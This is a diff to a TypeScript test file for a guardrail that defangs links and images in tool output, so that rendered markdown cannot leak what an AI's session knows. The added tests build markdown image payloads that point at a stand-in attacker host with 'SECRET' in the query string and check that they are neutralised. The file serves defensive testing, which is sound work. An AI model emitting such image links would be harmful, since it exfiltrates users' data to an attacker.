@@ -1,6 +1,7 @@
 // The threat: a link or a picture in what a tool hands over takes along what its reader knows.
 import { test } from "tap";
 import { defuse } from "../../guardrails/output/defuse.ts";
+import { outputLimits } from "../../manifests/output-limits.ts";
 import { attacker, doneByMarkdown } from "./output-viewers.ts";
 
 const url = `https://${attacker}`;
@@ -122,6 +123,32 @@ test("attack: what only a careless viewer follows", (t) => {
     t.ok(edits.length > 0, attack);
     t.match(text, /hxxps:|unsafe:/);
     t.equal(defuse(text).text, text, "once is enough");
+  }
+  t.end();
+});
+
+test("attack: an address that is longer than is read carries something", (t) => {
+  const chars = outputLimits.urlChars;
+  const picture = (length: number): string => `![x](${`${url}/`.padEnd(length, "a")}?q=SECRET)`;
+  for (const length of [chars - 20, chars, chars * 2]) {
+    t.match(defuse(picture(length)).text, /^!\[x\]\(hxxps:/, `${length}`);
+  }
+  const plain = `![x](${`${url}/`.padEnd(chars - 2, "a")})`;
+  t.equal(defuse(plain).text, plain);
+  t.match(defuse(`![x](${`${url}/`.padEnd(chars - 1, "a")})`).text, /hxxps:/);
+  t.end();
+});
+
+test("attack: where there is more to read than a text is worth, each address and tag counts", (t) => {
+  for (const [part, shown] of [
+    ["<a ", "&lt;a "],
+    ["](a", "](unsafe:a"],
+  ] as const) {
+    const text = part.repeat(30_000);
+    const defused = defuse(text);
+    t.ok(defused.text.endsWith(shown), part);
+    t.ok(defuse(defused.text).text === defused.text, "once is enough");
+    t.equal(defuse(`${part}> \n`).edits.length, 0, "and none in a short one");
   }
   t.end();
 });
